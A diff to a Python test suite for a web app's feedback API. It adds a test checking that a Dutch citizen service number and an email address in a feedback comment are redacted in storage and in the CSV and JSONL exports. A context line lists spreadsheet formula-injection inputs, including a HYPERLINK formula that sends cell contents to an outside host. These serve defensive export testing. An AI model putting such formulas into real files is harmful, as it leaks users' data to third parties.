@@ -91,6 +91,29 @@ def _export(base: str, admin: dict[str, str], fmt: str) -> str:
     return response.text
 
 
+def test_personal_data_in_a_comment_is_stored_and_exported_redacted(
+    served, admin, settings: Settings
+) -> None:
+    base, store = served
+    _, message_id = _answer(store)
+    comment = "Mijn BSN is 111222333, mail de uitkomst naar jan.jansen@example.nl graag."
+    response = httpx.post(
+        f"{base}/api/feedback",
+        json={"message_id": message_id, "comment": comment},
+        headers=admin,
+    )
+    assert response.status_code == 201, response.text
+    feedback_id = response.json()["feedback_id"]
+    redacted = "Mijn BSN is [BSN], mail de uitkomst naar [E-MAILADRES] graag."
+    assert {f.id: f.comment for f in store.feedback()}[feedback_id] == redacted
+    files = settings.conversations_path.parent.glob("conversations.sqlite*")
+    assert not any(b"111222333" in path.read_bytes() for path in files)
+    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(_export(base, admin, "csv")))}
+    assert rows[feedback_id]["comment"] == redacted
+    lines = [json.loads(line) for line in _export(base, admin, "jsonl").splitlines()]
+    assert {line["id"]: line["comment"] for line in lines}[feedback_id] == redacted
+
+
 # what Excel and LibreOffice would run as a formula; comments arrive stripped, so the
 # tab and the carriage return come in the question and answer
 FORMULAS = ['=HYPERLINK("https://example.org/?d="&A1,"Klik")', "+1", "-2", "@SUM(A1:A9)"]
